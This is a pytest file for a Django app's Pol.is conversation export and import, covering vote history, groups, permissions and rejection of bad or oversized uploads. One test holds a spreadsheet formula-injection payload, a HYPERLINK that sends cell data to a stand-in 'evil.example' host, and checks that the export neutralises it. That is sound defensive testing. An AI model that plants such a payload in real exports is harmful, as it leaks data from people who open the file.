"""Pol.is export and import through the services: every vote cast goes out and comes back, with Pol.is's
group ids kept; a bad export saves nothing."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any, cast

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from coproduce.conversations import polis_io, selectors, services, snapshots
from coproduce.conversations.models import Conversation, Participant, Statement, Vote, VoteEvent
from coproduce.core.audit import AuditEvent
from coproduce.core.exceptions import NotPermitted, ServiceError
from coproduce.methods import polis_csv
from tests.conftest import present
from tests.conversations.voting import assert_counts_match
from tests.factories import MembershipFactory

pytestmark = pytest.mark.django_db

OPEN_DATA = Path(__file__).resolve().parent.parent / "data" / "polis" / "opendata"
BREXIT = OPEN_DATA / "brexit-consensus"


def uploads_of(folder: Path, *names: str) -> list[SimpleUploadedFile]:
    return [SimpleUploadedFile(name, (folder / name).read_bytes()) for name in names]


def current(conversation: Conversation) -> dict[tuple[int, int], int]:
    return {
        (p, s): v
        for p, s, v in Vote.objects.filter(conversation=conversation).values_list(
            "participant__number", "statement__number", "value"
        )
    }


def test_a_pol_is_open_data_export_is_imported_with_its_history_and_groups(coordinator: Any) -> None:
    names = ("comments.csv", "votes.csv", "participants-votes.csv", "summary.csv")
    conversation = services.conversation_import(actor=coordinator, topic="", uploads=uploads_of(BREXIT, *names))
    export = polis_csv.read_export(BREXIT, integer_ids=True)
    assert conversation.topic == "Can there be consensus on Brexit?" and not conversation.is_open
    assert conversation.description.startswith("An experimental Pol.Is question. The intractable")
    assert conversation.description_html.startswith("<p>An experimental Pol.Is question.")
    assert current(conversation) == export.latest()  # 5 303 current votes: the latest of each person
    assert len(export.latest()) == 5303
    assert_counts_match(conversation)  # what progress reads (ADR 16)
    assert VoteEvent.objects.filter(conversation=conversation).count() == len(export.votes) == 5312
    assert dict(Participant.objects.filter(conversation=conversation).values_list("number", "imported_group")) == (
        export.groups
    )
    # a changed vote: both values are in the history, in the order cast, and the current one is the latest
    changed = next(key for key in export.latest() if sum(1 for v in export.votes if v[:2] == key) > 1)
    rows = sorted((v for v in export.votes if v[:2] == changed), key=lambda v: v[3])
    history = VoteEvent.objects.filter(
        conversation=conversation, participant__number=cast(int, changed[0]), statement__number=changed[1]
    ).order_by("cast_at", "pk")
    assert [(e.value, int(e.cast_at.timestamp() * 1000)) for e in history] == [(v[2], int(v[3])) for v in rows]
    vote = Vote.objects.get(
        conversation=conversation, participant__number=cast(int, changed[0]), statement__number=changed[1]
    )
    assert vote.updated_at == present(history.last()).cast_at and vote.created_at == present(history.first()).cast_at
    event = AuditEvent.objects.get(action="conversations.imported")
    assert event.detail == {
        "statements": 50,
        "participants": 204,
        "votes": 5303,
        "votes_cast": 5312,
        "groups_imported": sum(1 for g in export.groups.values() if g is not None),
    }


def test_the_export_of_an_import_reads_back_the_same(coordinator: Any) -> None:
    conversation = services.conversation_import(
        actor=coordinator,
        topic="Brexit",
        uploads=uploads_of(BREXIT, "comments.csv", "votes.csv", "participants-votes.csv"),
    )
    original = polis_csv.read_export(BREXIT, integer_ids=True)
    again = polis_csv.read_files(selectors.polis_export(conversation).files, integer_ids=True)
    assert again.latest() == original.latest()
    assert sorted(again.votes) == sorted(original.votes)  # every vote, with its time to the millisecond
    assert again.groups == original.groups  # no map of ours yet: Pol.is's groups
    texts = sorted((s.id, s.text, s.author, s.moderated, s.timestamp) for s in again.statements)
    assert texts == sorted(
        (s.id, " ".join(s.text.split()), s.author, s.moderated, s.timestamp) for s in original.statements
    )


def test_votes_cast_here_go_out_in_full_and_come_back_the_same(coordinator: Any, partnership: Any) -> None:
    conversation = services.conversation_create(actor=coordinator, topic="Fairs", seeds=["One", "Two", "Three"])
    people = [MembershipFactory(partnership=partnership, is_member=True) for _ in range(8)]
    statements = list(conversation.statements.order_by("number"))
    for n, person in enumerate(people):
        for statement in statements:
            services.vote_cast(actor=person, statement_id=statement.pk, vote=("agree", "disagree", "pass")[n % 3])
    for person in people[:3]:  # second thoughts
        services.vote_cast(actor=person, statement_id=statements[0].pk, vote="pass")
        services.vote_cast(actor=person, statement_id=statements[0].pk, vote="disagree")
    snapshots.snapshot_compute(conversation.pk)
    data = selectors.polis_export_zip(conversation)
    imported = services.conversation_import(
        actor=coordinator, topic="Again", uploads=[SimpleUploadedFile("export.zip", data)]
    )
    assert current(imported) == current(conversation)
    assert VoteEvent.objects.filter(conversation=imported).count() == 8 * 3 + 6
    ours = selectors.polis_export(conversation)
    assert ours.groups_from == "map"
    groups = polis_csv.read_files(ours.files, integer_ids=True).groups
    assert dict(Participant.objects.filter(conversation=imported).values_list("number", "imported_group")) == groups


def test_the_topic_and_description_go_out_in_summary_csv_and_come_back(coordinator: Any, partnership: Any) -> None:
    conversation = services.conversation_create(
        actor=coordinator, topic='Fairs, "spring" edition', description="Plan the **fair**.", seeds=["One", "Two"]
    )
    voter = MembershipFactory(partnership=partnership, is_member=True)
    services.vote_cast(actor=voter, statement_id=present(conversation.statements.first()).pk, vote="agree")
    summary = selectors.polis_export(conversation).files["summary.csv"]
    assert summary.splitlines() == [
        'topic,"Fairs, ""spring"" edition"',
        "voters,1",
        "commenters,0",  # the seeds have no author among the participants
        "comments,2",
        "conversation-description,Plan the **fair**.",  # no map yet: no groups row
    ]
    imported = services.conversation_import(
        actor=coordinator,
        topic="",
        uploads=[SimpleUploadedFile("export.zip", selectors.polis_export_zip(conversation))],
    )
    assert (imported.topic, imported.description) == ('Fairs, "spring" edition', "Plan the **fair**.")
    assert imported.description_html == "<p>Plan the <strong>fair</strong>.</p>\n"


def test_a_members_formula_goes_out_as_text_and_comes_back_as_written(coordinator: Any, partnership: Any) -> None:
    conversation = services.conversation_create(
        actor=coordinator, topic="=1+1 fairs", seeds=["One", "Two"], participants_may_add=True
    )
    member = MembershipFactory(partnership=partnership, is_member=True)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for help")'
    services.statement_add(actor=member, conversation=conversation, text=formula)
    services.statement_add(actor=member, conversation=conversation, text="'-already quoted")
    services.vote_cast(actor=member, statement_id=present(conversation.statements.first()).pk, vote="disagree")
    files = selectors.polis_export(conversation).files
    bodies = [row["comment-body"] for row in csv.DictReader(io.StringIO(files["comments.csv"]))]
    assert "'" + formula in bodies and formula not in bodies
    assert "''-already quoted" in bodies
    assert not any(body.startswith(("=", "+", "-", "@", "\t", "\r")) for body in bodies)
    assert [row["vote"] for row in csv.DictReader(io.StringIO(files["votes.csv"]))] == ["-1"]  # a number, as it was
    assert files["summary.csv"].startswith("topic,'=1+1 fairs")
    imported = services.conversation_import(
        actor=coordinator,
        topic="",
        uploads=[SimpleUploadedFile("export.zip", selectors.polis_export_zip(conversation))],
    )
    assert imported.topic == "=1+1 fairs"
    assert sorted(imported.statements.values_list("text", flat=True)) == sorted(
        conversation.statements.values_list("text", flat=True)
    )


def test_a_bad_export_is_refused_with_its_facts_and_nothing_is_saved(coordinator: Any) -> None:
    uploads = [
        SimpleUploadedFile("comments.csv", (BREXIT / "comments.csv").read_bytes()),
        SimpleUploadedFile("votes.csv", (BREXIT / "votes.csv").read_bytes().replace(b",1\n", b",2\n", 1)),
    ]
    with pytest.raises(ServiceError) as caught:
        services.conversation_import(actor=coordinator, topic="", uploads=uploads)
    assert caught.value.field == "upload" and caught.value.code == "bad_vote"
    assert caught.value.message.startswith("votes.csv, line ")
    assert "a vote must be 1, -1 or 0, not 2 (column “vote”)." in caught.value.message
    for model in (Conversation, Statement, Participant, Vote, VoteEvent):
        assert not model.objects.exists()


def test_only_coordinators_import(member: Any, worker: Any) -> None:
    for person in (member, worker):
        with pytest.raises(NotPermitted):
            services.conversation_import(actor=person, topic="", uploads=uploads_of(BREXIT, "comments.csv"))


def test_long_repeated_statements_and_a_blank_topic_are_kept_apart_not_an_error(coordinator: Any) -> None:
    words = "x" * 300
    comments = f"comment-id,comment-body\n1,{words}\n2,{words}\n3,{words.upper()}\n"
    uploads = [
        SimpleUploadedFile("comments.csv", comments.encode()),
        SimpleUploadedFile("votes.csv", b"comment-id,voter-id,vote\n1,0,1\n2,0,-1\n"),
    ]
    conversation = services.conversation_import(actor=coordinator, topic="   ", uploads=uploads)
    assert conversation.topic == "Imported Pol.is conversation"
    keys = list(conversation.statements.order_by("number").values_list("text_key", flat=True))
    assert len(set(keys)) == 3 and all(len(k) <= 280 for k in keys)
    assert keys[1].endswith(" #2") and keys[2].endswith(" #3")


def test_an_uploaded_zip_whose_files_are_too_large_together_is_refused(coordinator: Any, monkeypatch: Any) -> None:
    monkeypatch.setattr(polis_io, "MAX_ZIP_MEMBERS_BYTES", 1000)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("comments.csv", "comment-id,comment-body\n" + "1,x\n" * 600)
    with pytest.raises(ServiceError, match="are too large"):
        services.conversation_import(
            actor=coordinator, topic="", uploads=[SimpleUploadedFile("big.zip", buffer.getvalue())]
        )
